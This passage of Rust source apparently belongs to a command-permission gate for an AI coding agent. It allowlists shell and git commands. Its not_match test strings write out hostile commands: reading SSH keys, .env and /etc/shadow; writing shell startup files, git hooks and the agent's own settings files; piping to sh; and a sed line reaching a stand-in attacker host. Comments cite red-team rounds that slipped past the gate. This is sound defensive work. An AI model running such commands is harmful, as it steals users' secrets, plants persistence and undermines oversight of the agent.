        matches: &["date -u +%Y-%m-%d", "date", "date -d yesterday +%F", "date --date='2024-01-01 12:00 UTC' +%s"],
        not_matches: &[
            "date -s '2020-01-01'",
            "date -f /home/dev/.netrc",
            "date 0101000020",
            "date -d 'TZ=\"/dev/tty\" now'",
            "date --date='tz=\":/dev/tty\" 2020-01-01'",
        ],
        check: Some(date_check),
        ..entry("safe.date", &["date"])
    },
    SafeEntry {
        options: &[
            "-f, --fqdn, --long",
            "-s, --short",
            "-i, --ip-address",
            "-I, --all-ip-addresses",
            "-d, --domain",
            "-A, --all-fqdns",
            "-a, --alias",
        ],
        operands: "",
        matches: &["hostname", "hostname -f"],
        not_matches: &["hostname evil", "hostname -F /etc/x"],
        ..entry("safe.hostname", &["hostname"])
    },
    SafeEntry {
        style: Style::NoOptions,
        operands: "PATH...",
        check: Some(test_check),
        matches: &["test -f Cargo.toml", "[ -d src ]", "[ -t 1 ]", "test 3 -gt 2"],
        not_matches: &[
            "test -v 'a[$(id)]'",
            "[ -v 'x[1]' ]",
            "[ -t CI ]",
            "test -t PATH=0",
            "[ x -eq 1 ]",
            "test -R x",
        ],
        ..entry("safe.test", &["test", "["])
    },
    SafeEntry {
        options: &["-s, --separator=TEXT", "-w, --equal-width", "-f, --format=TEXT"],
        operands: "TEXT TEXT? TEXT?",
        check: Some(seq_check),
        matches: &["seq 1 10"],
        not_matches: &["seq inf", "seq 1 9999999999999", "seq 1 9999999", "seq -f '%0999999g' 1 9"],
        ..entry("safe.seq", &["seq"])
    },
    SafeEntry {
        options: &["-v", "-V", "-p"],
        style: Style::Posix,
        operands: "TEXT...",
        check: Some(command_lookup_check),
        matches: &["command -v cargo"],
        not_matches: &[],
        ..entry("safe.command-lookup", &["command"])
    },
    SafeEntry {
        options: &[
            "-b, --ignore-leading-blanks",
            "-d, --dictionary-order",
            "-f, --ignore-case",
            "-g, --general-numeric-sort",
            "-i, --ignore-nonprinting",
            "-M, --month-sort",
            "-h, --human-numeric-sort",
            "-n, --numeric-sort",
            "-R, --random-sort",
            "-r, --reverse",
            "-V, --version-sort",
            "--sort=TEXT",
            "-c",
            "-C",
            "--check[=TEXT]",
            "-k, --key=TEXT",
            "-m, --merge",
            "-o, --output=WRITE",
            "-s, --stable",
            "-S, --buffer-size=TEXT",
            "-t, --field-separator=TEXT",
            "-u, --unique",
            "-z, --zero-terminated",
            "--parallel=NUM",
            "--batch-size=NUM",
            "--debug",
        ],
        operands: "READ...",
        matches: &["sort -u names.txt", "sort -h", "sort -o sorted.txt names.txt"],
        not_matches: &["sort -o /etc/hosts names.txt", "sort --compress-program=sh x", "sort --out=.git/config x"],
        ..entry("safe.sort", &["sort"])
    },
    SafeEntry {
        options: &[
            "-c, --count",
            "-d, --repeated",
            "-D",
            "--all-repeated[=TEXT]",
            "--group[=TEXT]",
            "-u, --unique",
            "-i, --ignore-case",
            "-f, --skip-fields=NUM",
            "-s, --skip-chars=NUM",
            "-w, --check-chars=NUM",
            "-z, --zero-terminated",
        ],
        operands: "READ? WRITE?",
        matches: &["uniq -c sorted.txt", "uniq -f 1 sorted.txt", "uniq in.txt out.txt"],
        not_matches: &["uniq in.txt ../out.txt", "uniq a ~/.bashrc"],
        ..entry("safe.uniq", &["uniq"])
    },
    SafeEntry {
        options: &[
            "-a",
            "-d",
            "-f",
            "-L NUM",
            "-I PATTERN",
            "-P PATTERN",
            "--prune",
            "-s",
            "-h",
            "-D",
            "-F",
            "-C",
            "-n",
            "-i",
            "-l",
            "-x",
            "-p",
            "-u",
            "-g",
            "-r",
            "-t",
            "-v",
            "-U",
            "-c",
            "-J",
            "-X",
            "-Q",
            "-N",
            "-q",
            "--noreport",
            "--dirsfirst",
            "--filesfirst",
            "--gitignore",
            "--charset=TEXT",
            "--du",
            "--si",
            "--filelimit=NUM",
            "--matchdirs",
            "--ignore-case",
            "--sort=TEXT",
            "-o WRITE",
        ],
        operands: "READ...",
        cluster_values_follow: true,
        matches: &["tree -L 2 src", "tree -o tree.txt src"],
        not_matches: &[
            "tree -o ~/.bashrc",
            "tree -R -H x",
            "tree -Po '*' CLAUDE.md notes",
            "tree -oI AGENTS.md x docs",
        ],
        ..entry("safe.tree", &["tree"])
    },
    SafeEntry {
        // Listing an archive prints member names, never contents. Left out: every other mode,
        // `-O`/`--to-stdout`, `--to-command`, `-I`/`--use-compress-program`,
        // `--checkpoint-action`, `--rsh-command`, `-C`, `-T`/`--files-from`.
        options: &[
            "-t, --list",
            "-v, --verbose",
            "-f, --file=READ",
            "-z, --gzip, --gunzip, --ungzip",
            "-j, --bzip2",
            "-J, --xz",
            "--zstd",
            "-a, --auto-compress",
            "--numeric-owner",
            "--wildcards",
            "--no-wildcards",
            "--full-time",
            "--utc",
        ],
        operands: "PATTERN...",
        check: Some(tar_list_check),
        matches: &["tar -tzf vendor/archive.tar.gz", "tar --list -vf dist/x.tar"],
        not_matches: &[
            "tar -xzf x.tar.gz",
            "tar -tzf host:x.tar.gz",
            "tar -tf x.tar --to-command=sh",
            "tar -tf ~/.ssh/keys.tar",
            "tar -czf out.tgz src",
            "tar tzf x.tgz",
        ],
        ..entry("safe.tar-list", &["tar"])
    },
    SafeEntry {
        options: &[
            "-n, --quiet, --silent",
            "-E, -r, --regexp-extended",
            "-s, --separate",
            "-u, --unbuffered",
            "-z, --null-data",
            "--posix",
            "--debug",
            "--sandbox",
            "-l, --line-length=NUM",
            "-e, --expression=SCRIPT",
        ],
        operands: "SCRIPT READ...",
        alternatives: &[("e", "READ...")],
        check: Some(sed_check),
        matches: &[
            "sed -n '1,20p' src/main.rs",
            "sed 's/foo/bar/g' a.txt",
            "sed -e '/^#/d' -e 's/a/b/' x",
            "sed -n '/fn classify/,/^}/p' src/gate.rs",
        ],
        not_matches: &[
            "sed -i.bak 's/a/b/' x",
            "sed -n '1e id' x",
            "sed 's/a/b/w out' x",
            "sed -f script.sed x",
            "sed --in-pl=.b 's/a/b/' x",
            "sed -n 'w out' x",
        ],
        // BSD sed (`usr.bin/sed/main.c`, getopt "EI:ae:f:i:lnru"): `-l` is a switch (line
        // buffering), so GNU's line length is the script there.
        bsd_style: Some(Style::Posix),
        bsd: &["-l"],
        gnu_only_matches: &["sed -n -l 80 l src/lib.rs"],
        ..entry("safe.sed", &["sed"])
    },
    SafeEntry {
        // awk stops reading options at the program text (gawk's option string starts with `+`,
        // mawk parses by hand), so later words are files: `Posix`. Only `-F` is declared: `-f`
        // and `-i` read programs, `-v` assigns, `-l`/`-E`/`-W` load or run more.
        style: Style::Posix,
        options: &["-F TEXT"],
        operands: "SCRIPT READ...",
        check: Some(awk_check),
        matches: &[
            "awk -F, '{print $2}' data/sample.csv",
            "awk '{s+=$1} END {print s}' sizes.txt",
            "awk 'NR>1' a.csv",
            "awk 'length > 80' src/main.rs",
        ],
        not_matches: &[
            "awk 'BEGIN{system(\"id\")}'",
            "awk '{print > \"/home/dev/.bashrc\"}' a",
            "awk 'BEGIN{print ENVIRON[\"HOME\"]}'",
            "awk -f prog.awk a.txt",
            "awk -v x=1 '{print x}' a",
            "awk '{print}' /home/dev/.ssh/id_rsa",
            "awk '{print}' -F /home/dev/.ssh/id_rsa",
            "awk '{print}' .env",
            "awk '{print | \"sh\"}' a",
        ],
        ..entry("safe.awk", &["awk", "gawk", "mawk", "nawk"])
    },
    SafeEntry {
        // `sed -i` rewrites each operand: a write of exactly those files, judged by the path
        // rules, with the same script check. A backup suffix (`-i.bak`, `-in` is suffix `n`)
        // writes FILE+SUFFIX, a name the gate does not judge, so it is refused.
        options: &[
            "-i, --in-place[=TEXT]",
            "-n, --quiet, --silent",
            "-E, -r, --regexp-extended",
            "-s, --separate",
            "-z, --null-data",
            "--posix",
            "--sandbox",
            "-l, --line-length=NUM",
            "-e, --expression=SCRIPT",
        ],
        operands: "SCRIPT WRITE...",
        alternatives: &[("e", "WRITE...")],
        check: Some(sed_in_place_check),
        matches: &[
            "sed -i '' 's/old_fn/new_fn/g' src/lib.rs",
            "sed -i '' 's/a/b/;/^$/d' a.txt b.txt",
            "sed -i 's/old_fn/new_fn/g' src/lib.rs",
        ],
        not_matches: &[
            "sed -i.bak 's/a/b/' x",
            "sed -in 's/a/b/' .mcp.jso",
            "sed --in-place=.json 's/a/b/' .mcp",
            "sed -i p 'w /home/dev/Library/LaunchAgents/x.plist' notes.txt",
            "sed -i -e 's/a/b/' x",
            "sed -i 's/a/b/' ~/.bashrc",
            "sed -i 's/a/b/w out' x",
            "sed -i '1e id' x",
            "sed -i 's/a/b/' .claude/settings.json",
            "sed -i 's/a/b/' src/www.rs",
            "sed -i 's/a/b/' 'w /home/dev/.bashrc'",
            "sed -i -e 'R /net/secret-token.attacker.example/x'",
            "sed -i -n ~/../../.ssh/id_ed25519",
            "sed -i -e $HOME/../../.zshrc",
            "sed -i.bak 's/a/b/' src/lib.rs",
        ],
        // BSD sed's `-i` takes the next word as the backup suffix (`-i ''` keeps none), so
        // `sed -i p 'w FILE' notes.txt` runs the script `w FILE` there.
        bsd_style: Some(Style::Posix),
        bsd: &["-i TEXT", "-l"],
        gnu_only_matches: &["sed -i -e 's/a/b/' -e '/^$/d' a.txt b.txt", "sed -i 's/a/b/' a.txt b.txt"],
        ..entry("write.sed-in-place", &["sed"])
    },
    SafeEntry {
        // Not `-e` or `-@`: zsh reads an option it does not know as the first operand of its
        // two-operand `cd OLD NEW` (red-team round 40).
        options: &["-L", "-P"],
        style: Style::Posix,
        operands: "READ?",
        check: Some(cd_check),
        matches: &["cd src", "cd /workspace/tests"],
        not_matches: &["cd ~/.ssh", "cd -", "cd /etc"],
        ..entry("safe.cd", &["cd", "pushd"])
    },
    SafeEntry {
        style: Style::Posix,
        options: &["-n"],
        operands: "",
        matches: &["popd"],
        not_matches: &["popd x"],
        ..entry("safe.popd", &["popd"])
    },
    SafeEntry {
        options: &["--version", "-V"],
        operands: "",
        check: Some(version_check),
        narrow: true,
        matches: &["gcc --version", "make --version", "make -V"],
        not_matches: &["make build", "gcc -V x", "node --version", "python3 -V"],
        // Not cargo, rustc, rustup or go: rustup's proxies run the toolchain a
        // `rust-toolchain.toml` names (its `path` may be a directory the agent can write), and
        // go runs (and downloads) the toolchain `go.mod` names. Not node, npm, python, deno or
        // bun either: version managers' shims (Volta, asdf, mise, proto, pyenv) pick the
        // program from project files, and Volta runs a project's download hooks (red-team
        // round 39). A version query of theirs runs a program chosen by the repository.
        ..entry("safe.version", &["gcc", "make"])
    },
    SafeEntry {
        tier: Tier::Medium,
        options: &["-p, --parents", "-v, --verbose", "-m, --mode=TEXT"],
        operands: "WRITE...",
        matches: &["mkdir -p src/gate", "mkdir -p tests/fixtures"],
        not_matches: &["mkdir ~/.config/autostart", "mkdir -p .git/hooks"],
        ..entry("write.mkdir", &["mkdir"])
    },
    SafeEntry {
        tier: Tier::Medium,
        options: &[
            "-a",
            "-c, --no-create",
            "-d, --date=DATE",
            "-h, --no-dereference",
            "-m",
            "-r, --reference=READ",
            "-t TEXT",
            "--time=TEXT",
        ],
        operands: "WRITE...",
        matches: &["touch src/new.rs", "touch -d '2 hours ago' src/new.rs"],
        not_matches: &["touch /etc/x", "touch ~/.hushlogin", "touch -d 'TZ=\"/dev/tty\" now' f"],
        ..entry("write.touch", &["touch"])
    },
    SafeEntry {
        tier: Tier::Medium,
        options: &[
            "-r, -R, --recursive",
            "-f, --force",
            "-i, --interactive",
            "-n, --no-clobber",
            "-u",
            "--update[=TEXT]",
            "-v, --verbose",
            // No `-T`: it merges a source directory's contents, names the gate cannot see.
            "-t, --target-directory=WRITE",
            // No `-b`/`--backup`/`-S`: the backup's name (destination + suffix) is a write the
            // grammar cannot name (`CLAUDE` + `.md`).
            "-P, --no-dereference",
            // No `--parents`: it writes DEST/SOURCE-PATH (`cp --parents workflows/ci.yml .github`).
            "--remove-destination",
            "--strip-trailing-slashes",
            "--sparse=TEXT",
            "--reflink[=TEXT]",
            "--attributes-only",
            "--no-preserve=TEXT",
            "--debug",
        ],
        operands: "READ... WRITE",
        alternatives: &[("t", "READ...")],
        copies_into_directory: true,
        matches: &["cp a.txt b.txt", "cp -r fixtures fixtures.bak", "cp -r tests/fixtures tests/fixtures_v2"],
        not_matches: &[
            "cp x ~/.bashrc",
            "cp -a src /tmp/x",
            "cp ~/.ssh/id_rsa .",
            "cp -s ~/.ssh/id_rsa k",
            "cp a .git/config",
            "cp templates/CLAUDE.md .",
            "cp -r templates/.claude .",
            "cp -rt . templates/.claude",
            "cp -r templates/. .",
            "cp -rT templates .",
            "cp --parents workflows/ci.yml .github",
        ],
        ..entry("write.cp", &["cp"])
    },
    SafeEntry {
        tier: Tier::Medium,
        options: &[
            "-f, --force",
            "-i, --interactive",
            "-n, --no-clobber",
            "-u",
            "--update[=TEXT]",
            "-v, --verbose",
            // No `-T`: it merges a source directory's contents, names the gate cannot see.
            "-t, --target-directory=WRITE",
            // No `-b`/`--backup`/`-S`: the backup's name (destination + suffix) is a write the
            // grammar cannot name (`CLAUDE` + `.md`).
            "--strip-trailing-slashes",
        ],
        // Moving a file away deletes it where it was: every operand is written.
        operands: "WRITE... WRITE",
        alternatives: &[("t", "WRITE...")],
        copies_into_directory: true,
        matches: &["mv src/old_name.rs src/new_name.rs"],
        not_matches: &["mv x ~/.bashrc", "mv .git/config x", "mv a ../b"],
        ..entry("write.mv", &["mv"])
    },
    SafeEntry {
        tier: Tier::Medium,
        options: &["-a, --append", "-i, --ignore-interrupts", "-p", "--output-error[=TEXT]"],
        operands: "WRITE...",
        matches: &["tee out.log", "tee -a test-output.log"],
        not_matches: &["tee -a ~/.zshrc", "tee /etc/hosts", "tee .vscode/tasks.json"],
        ..entry("write.tee", &["tee"])
    },
];

/// binutils read `@FILE` as a file of more arguments, in operands and option values alike (and
/// echo its words in errors): any word holding `@` is refused.
fn no_response_files(_parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    match args.iter().find(|word| word.contains('@')) {
        Some(word) => Err(format!("uses `{word}`, which may name a response file")),
        None => Ok(()),
    }
}

/// ripgrep: `--glob` overrides its ignore rules, so a glob that can name a dotfile or a
/// credential file (`-g '.env*'`) is refused.
/// ripgrep types whose globs are only source-code extensions (`rust`: `*.rs`), in every
/// ripgrep release: their whitelist reaches hidden files only as `.NAME.rs`-style sources, never
/// dotfiles such as `.yarnrc.yml` (`yaml`), `.bashrc` (`sh`), `.irbrc` (`ruby`) or
/// `*.properties` (`java`). `rg --type-list` shows a release's table.
pub const SOURCE_CODE_TYPES: [&str; 26] = [
    "c", "clojure", "cpp", "cs", "css", "dart", "elixir", "go", "haskell", "html", "js", "julia", "kotlin", "lua",
    "markdown", "md", "ocaml", "php", "py", "rst", "rust", "scala", "swift", "ts", "zig", "vue",
];

/// Whether an rg type name (as given to `-t`/`--type`, or Claude Code's Grep `type`) is one
/// of [`SOURCE_CODE_TYPES`].
pub fn is_source_code_type(kind: &str) -> bool {
    SOURCE_CODE_TYPES.contains(&kind)
}

fn rg_check(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> Result<(), String> {
    // rg skips hidden files only while walking: a hidden directory named on the command line
    // (`rg token .git`) is searched, and its files printed.
    for (word, role) in &parsed.operands {
        let path = args[*word].as_str();
        if *role == Role::Read && path.split('/').any(|part| part.starts_with('.') && part != "." && part != "..") {
            return Err(format!("searches the hidden path `{path}`, whose files rg would print"));
        }
    }
    // A type filter whitelists its globs past the hidden-file check (`-t yaml` prints
    // `.yarnrc.yml`), as an include glob does: only source-language types are vouched for.
    if parsed.has(grammar, "type-add") {
        return Err("defines a type, whose globs can search hidden files".to_owned());
    }
    if let Some(kind) = values(parsed, grammar, "type").find(|kind| !is_source_code_type(kind)) {
        return Err(format!("uses the type filter `{kind}`, which can search hidden files of that type"));
    }
    // An include glob overrides hidden and ignore rules (`-g '*'` searches `.git` and `.env`,
    // and rg's `*` matches a leading dot): only exclusions (`!…`) are vouched for. Not even a
    // source extension: unlike `-t py`, `-g '*.py'` also searches gitignored files, and
    // `secrets.py` or `arduino_secrets.h` are ignored precisely because they hold secrets
    // (red-team round 47).
    let globs = values(parsed, grammar, "glob").chain(values(parsed, grammar, "iglob"));
    for glob in globs {
        if !glob.starts_with('!') {
            return Err(format!("uses the include glob `{glob}`, which searches hidden and ignored files"));
        }
        let pattern = glob.trim_start_matches('!');
        if pattern.starts_with('.')
            || pattern.contains("/.")
            || crate::gate::paths::glob_may_match_sensitive(pattern)
            || crate::gate::paths::is_sensitive_name(pattern)
        {
            return Err(format!("uses the glob `{glob}`, which can reach dotfiles or credential files"));
        }
    }
    Ok(())
}

/// diff of two directories compares every file name they share, hidden ones included (`diff
/// apps/web .` prints both `.env` files), and a path's text does not say whether it is a
/// directory. So one side must be a stream (`-`, `/dev/null`, or a pipe: `<(…)` is
/// `/dev/fd/N`), or the machine must show that every path it reads is a regular file.
fn diff_needs(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> PathNeeds {
    let is_stream = |word: &str| {
        word == "-"
            || word == "/dev/null"
            || word.strip_prefix("/dev/fd/").is_some_and(|fd| !fd.is_empty() && fd.bytes().all(|b| b.is_ascii_digit()))
    };
    if operand_words(parsed, args).any(is_stream) {
        return PathNeeds::Nothing;
    }
    // Every path diff reads: the operands and any `--from-file`/`--to-file` value.
    let option_paths = parsed
        .options
        .iter()
        .flat_map(|given| &given.values)
        .filter_map(|(value, role)| matches!(role, Role::Read | Role::MaybeRead).then_some(value.as_str()));
    PathNeeds::RegularFiles(
        operand_words(parsed, args).chain(option_paths).map(str::to_owned).collect(),
        "compares two paths, either of which may be a directory whose files (`.env`) it would print",
    )
}

/// grep without `-r`/`-R` reads its operands; with either it reads every file below each
/// operand (or below `.` when none is given), which only the machine can list.
fn grep_needs(parsed: &Parsed, grammar: &Grammar, args: &[String]) -> PathNeeds {
    if !(parsed.has(grammar, "r") || parsed.has(grammar, "R")) {
        return PathNeeds::Nothing;
    }
    let mut trees: Vec<String> = parsed
        .operands
        .iter()
        .filter(|(word, role)| *role == Role::Read && args[*word] != "-")
        .map(|(word, _)| args[*word].clone())
        .collect();
    if parsed.operands.iter().all(|(_, role)| *role != Role::Read) {
        trees.push(".".to_owned());
    }
    PathNeeds::PlainTrees(
        trees,
        "searches every file below its operands, `.env` and links included, which only a check of the machine can list",
    )
}

/// tar: list mode only, and an archive name without `:` (GNU tar reads `host:file` over rsh).
fn tar_list_check(parsed: &Parsed, grammar: &Grammar, _args: &[String]) -> Result<(), String> {
    if !parsed.has(grammar, "list") {
        return Err("does not only list the archive".to_owned());
    }
    match values(parsed, grammar, "file").find(|archive| archive.contains(':')) {
        Some(archive) => Err(format!("names the archive `{archive}`, which GNU tar reads from a remote host")),
        None => Ok(()),
    }
}

/// zsh (and ksh) evaluate the argument of a numeric conversion as arithmetic, assignments
/// included: `printf %d HOME=11` sets HOME. Such arguments must be number literals.
fn printf_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    let mut operands = operand_words(parsed, args);
    let Some(format) = operands.next() else { return Ok(()) };
    if !format_widths_are_small(format) {
        return Err(format!("uses the format `{format}`, whose width writes without bound"));
    }
    if !has_numeric_conversion(format) {
        return Ok(());
    }
    match operands.find(|arg| !is_number_literal(arg)) {
        Some(arg) => Err(format!("passes `{arg}` to a numeric conversion, which zsh evaluates as arithmetic")),
        None => Ok(()),
    }
}

/// Whether a printf format has a conversion that is not plain text. Allowlist: `%%`, and `%s`,
/// `%b`, `%q` with only flags, a width and a precision written as digits. Anything else (`%d`,
/// `%ld`, `%hd`, `%*s`, an unknown letter) may evaluate its argument as arithmetic in zsh.
fn has_numeric_conversion(format: &str) -> bool {
    let mut rest = format;
    while let Some(at) = rest.find('%') {
        let spec = &rest[at + 1..];
        if let Some(after) = spec.strip_prefix('%') {
            rest = after;
            continue;
        }
        let end =
            spec.find(|c: char| !matches!(c, '-' | '+' | ' ' | '#' | '0'..='9' | '.' | '\'')).unwrap_or(spec.len());
        match spec[end..].chars().next() {
            Some('s' | 'b' | 'q') => rest = &spec[end + 1..],
            _ => return true,
        }
    }
    false
}

fn is_number_literal(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    if let Some(hex) = digits.strip_prefix("0x").or_else(|| digits.strip_prefix("0X")) {
        return !hex.is_empty() && hex.bytes().all(|byte| byte.is_ascii_hexdigit());
    }
    !digits.is_empty()
        && digits.bytes().any(|byte| byte.is_ascii_digit())
        && digits.bytes().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b'e' | b'E' | b'+' | b'-'))
}

/// date: only a display format (`+…`) as the operand; `MMDDhhmm` sets the clock.
fn date_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    match operand_words(parsed, args).next() {
        Some(format) if !format.starts_with('+') => Err("sets the clock".to_owned()),
        _ => Ok(()),
    }
}

/// git's own options before the subcommand that keep it on the workspace's repository. Left
/// out: `-C`, `-c`, `--git-dir`, `--work-tree`, `--namespace`, `--config-env`, `--exec-path`,
/// `--super-prefix`, `--bare`, `--list-cmds`.
pub const GIT_GLOBAL_OPTIONS: &[&str] = &[
    "-P, --no-pager",
    "--no-optional-locks",
    "--no-replace-objects",
    "--literal-pathspecs",
    "--glob-pathspecs",
    "--noglob-pathspecs",
    "--icase-pathspecs",
    "--no-advice",
];

/// A git subcommand entry: the subcommand name(s), and the entry for its arguments.
pub struct GitSubcommand {
    pub names: &'static [&'static str],
    pub entry: SafeEntry,
}

pub static GIT_SUBCOMMANDS: &[GitSubcommand] = &[
    GitSubcommand {
        names: &["status"],
        entry: SafeEntry {
            options: &[
                "-s, --short",
                "-b, --branch",
                "--porcelain[=TEXT]",
                "--long",
                "-v, --verbose",
                "-u, --untracked-files[=TEXT]",
                "--ignored[=TEXT]",
                "--ignore-submodules[=TEXT]",
                "-z",
                "--column[=TEXT]",
                "--no-column",
                "--ahead-behind",
                "--no-ahead-behind",
                "--renames",
                "--no-renames",
                "--find-renames[=TEXT]",
                "--show-stash",
            ],
            operands: "READ...",
            matches: &["git status", "git status --short"],
            not_matches: &["git -C /tmp/x status", "git --git-dir=/tmp/x status"],
            ..entry("safe.git-status", &["git"])
        },
    },
    GitSubcommand {
        names: &["log", "show", "whatchanged", "shortlog", "diff-tree", "rev-list"],
        entry: SafeEntry {
            options: GIT_LOG_OPTIONS,
            operands: "READ...",
            numeric_option: true,
            matches: &[
                "git log --oneline -20",
                "git log -p -3 -- src/gate.rs",
                "git show --stat HEAD~3",
                "git show HEAD~1:src/lib.rs",
                "git log --graph --oneline --all",
            ],
            not_matches: &["git log --output=/tmp/x", "git show --textconv HEAD"],
            ..entry("safe.git-log", &["git"])
        },
    },
    GitSubcommand {
        names: &["diff"],
        entry: SafeEntry {
            options: GIT_LOG_OPTIONS,
            operands: "READ...",
            numeric_option: true,
            check: Some(git_diff_check),
            matches: &[
                "git diff",
                "git diff --stat HEAD~3",
                "git diff main...HEAD --name-only",
                "git diff HEAD -- src/a.rs src/b.rs",
                "git diff HEAD -- src/gate.rs",
                "git diff HEAD~1 -- src/gate.rs",
            ],
            not_matches: &[
                "git diff --ext-diff",
                "git diff --no-index ~/.ssh/id_rsa x",
                "git diff src .",
                "git diff -- src .",
                "git diff --output=x",
            ],
            ..entry("safe.git-diff", &["git"])
        },
    },
    GitSubcommand {
        names: &["blame", "annotate"],
        entry: SafeEntry {
            options: &[
                "-L TEXT",
                "-w",
                "-M[TEXT]",
                "-C[TEXT]",
                "-s",
                "-e, --show-email",
                "-l",
                "-t",
                "-p, --porcelain",
                "--line-porcelain",
                "-c",
                "--show-stats",
                "--date=TEXT",
                "--root",
                "-n, --show-number",
                "-f, --show-name",
                "--abbrev[=NUM]",
                "--incremental",
                "--ignore-rev=TEXT",
                "--color-lines",
                "--color-by-age",
                "--progress",
                "--no-progress",
            ],
            operands: "READ...",
            matches: &["git blame src/parser.rs", "git blame -L 40,80 src/parser.rs"],
            not_matches: &["git blame --contents=/etc/shadow x"],
            ..entry("safe.git-blame", &["git"])
        },
    },
    GitSubcommand {
        names: &["rev-parse"],
        entry: SafeEntry {
            options: &[
                "--abbrev-ref[=TEXT]",
                "--short[=NUM]",
                "--show-toplevel",
                "--git-dir",
                "--absolute-git-dir",
                "--git-common-dir",
                "--is-inside-work-tree",
                "--is-inside-git-dir",
                "--is-bare-repository",
                "--is-shallow-repository",
                "--verify",
                "-q, --quiet",
                "--symbolic",
                "--symbolic-full-name",
                "--show-prefix",
                "--show-cdup",
                "--show-superproject-working-tree",
                "--all",
                "--branches[=TEXT]",
                "--tags[=TEXT]",
                "--remotes[=TEXT]",
                "--revs-only",
                "--no-revs",
                "--flags",
                "--no-flags",
                "--sq",
                "--not",
                "--path-format=TEXT",
                "--show-object-format[=TEXT]",
                "--local-env-vars",
                "--default=TEXT",
            ],
            operands: "TEXT...",
            matches: &["git rev-parse --abbrev-ref HEAD", "git rev-parse --show-toplevel"],
            not_matches: &["git rev-parse --parseopt x"],
            ..entry("safe.git-rev-parse", &["git"])
        },
    },
    GitSubcommand {
        names: &["ls-files"],
        entry: SafeEntry {
            options: &[
                "-c, --cached",
                "-d, --deleted",
                "-m, --modified",
                "-o, --others",
                "-i, --ignored",
                "-s, --stage",
                "-u, --unmerged",
                "-k, --killed",
                "--directory",
                "--no-empty-directory",
                "-x, --exclude=PATTERN",
                "-X, --exclude-from=READ",
                "--exclude-per-directory=TEXT",
                "--exclude-standard",
                "--error-unmatch",
                "--full-name",
                "--recurse-submodules",
                "--abbrev[=NUM]",
                "--eol",
                "--deduplicate",
                "--format=TEXT",
                "-z",
                "-t",
                "-v",
                "-f",
            ],
            // It prints names, never contents: its pathspecs are patterns, globs included.
            operands: "PATTERN...",
            matches: &["git ls-files", "git ls-files '*.rs'"],
            not_matches: &["git ls-files --with-tree=x --bogus"],
            ..entry("safe.git-ls-files", &["git"])
        },
    },
    GitSubcommand {
        names: &["ls-tree"],
        entry: SafeEntry {
            options: &[
                "-d",
                "-r",
                "-t",
                "-l, --long",
                "-z",
                "--name-only",
                "--name-status",
                "--object-only",
                "--full-name",
                "--full-tree",
                "--abbrev[=NUM]",
                "--format=TEXT",
            ],
            operands: "TEXT READ...",
            matches: &["git ls-tree -r HEAD"],
            not_matches: &["git ls-tree --bogus HEAD"],
            ..entry("safe.git-ls-tree", &["git"])
        },
    },
    GitSubcommand {
        names: &["cat-file"],
        entry: SafeEntry {
            options: &["-t", "-s", "-e", "-p", "--allow-unknown-type"],
            operands: "TEXT TEXT?",
            matches: &["git cat-file -p HEAD"],
            not_matches: &[
                "git cat-file --filters HEAD:x",
                "git cat-file --textconv HEAD:x",
                "git cat-file -p HEAD:.env",
                "git cat-file -p :.env",
            ],
            ..entry("safe.git-cat-file", &["git"])
        },
    },
    GitSubcommand {
        names: &["grep"],
        entry: SafeEntry {
            options: &[
                "-n, --line-number",
                "-i, --ignore-case",
                "-w, --word-regexp",
                "-v, --invert-match",
                "-c, --count",
                "-l, --files-with-matches, --name-only",
                "-L, --files-without-match",
                "-h",
                "-H",
                "-e PATTERN",
                "-E, --extended-regexp",
                "-F, --fixed-strings",
                "-G, --basic-regexp",
                "-P, --perl-regexp",
                "-I",
                "-a, --text",
                "-r, --recursive",
                "--no-recursive",
                "--cached",
                "--max-depth=NUM",
                "-A, --after-context=NUM",
                "-B, --before-context=NUM",
                "-C, --context=NUM",
                "-W, --function-context",
                "-p, --show-function",
                "--heading",
                "--break",
                "--full-name",
                "-z, --null",
                "-o, --only-matching",
                "-q, --quiet",
                "--and",
                "--or",
                "--not",
                "--all-match",
                "-f READ",
                "--color[=TEXT]",
                "--no-color",
                "--column",
                "--exclude-standard",
                "--threads=NUM",
                "-m, --max-count=NUM",
            ],
            operands: "PATTERN READ...",
            alternatives: &[("e", "READ..."), ("f", "READ...")],
            numeric_option: true,
            matches: &["git grep -n 'fn parse'"],
            not_matches: &["git grep -O'sh' x", "git grep --open-files-in-pager=sh x", "git grep --no-index x ~/.ssh"],
            ..entry("safe.git-grep", &["git"])
        },
    },
    GitSubcommand {
        names: &[
            "merge-base",
            "name-rev",
            "show-ref",
            "count-objects",
            "version",
            "for-each-ref",
            "check-ignore",
            "describe",
        ],
        entry: SafeEntry {
            options: &[
                "--all",
                "--octopus",
                "--is-ancestor",
                "--independent",
                "--fork-point",
                "--tags",
                "--refs=TEXT",
                "--exclude=TEXT",
                "--name-only",
                "--no-undefined",
                "--always",
                "--head",
                "--heads",
                "--branches",
                "-d, --dereference",
                "-s, --hash[=NUM]",
                "--abbrev[=NUM]",
                "--verify",
                "--exists",
                "-q, --quiet",
                "-v, --verbose",
                "-H, --human-readable",
                "--build-options",
                "--format=TEXT",
                "--sort=TEXT",
                "--count=NUM",
                "--points-at=TEXT",
                "--merged[=TEXT]",
                "--no-merged[=TEXT]",
                "--contains[=TEXT]",
                "--no-contains[=TEXT]",
                "--ignore-case",
                "--omit-empty",
                "--color[=TEXT]",
                "-n, --non-matching",
                "--no-index",
                "-z",
                "--long",
                "--dirty[=TEXT]",
                "--broken[=TEXT]",
                "--match=PATTERN",
                "--candidates=NUM",
                "--exact-match",
                "--debug",
                "--first-parent",
            ],
            operands: "TEXT...",
            matches: &["git describe --tags", "git merge-base HEAD main", "git version"],
            not_matches: &["git describe --bogus"],
            ..entry("safe.git-refs", &["git"])
        },
    },
    GitSubcommand {
        names: &["branch"],
        entry: SafeEntry {
            options: &[
                "-a, --all",
                "-r, --remotes",
                "-v, --verbose",
                "--show-current",
                "--no-color",
                "--color[=TEXT]",
                "-l, --list",
                "--contains=TEXT",
                "--no-contains=TEXT",
                "--merged=TEXT",
                "--no-merged=TEXT",
                "--points-at=TEXT",
                "--sort=TEXT",
                "--format=TEXT",
                "--column[=TEXT]",
                "--no-column",
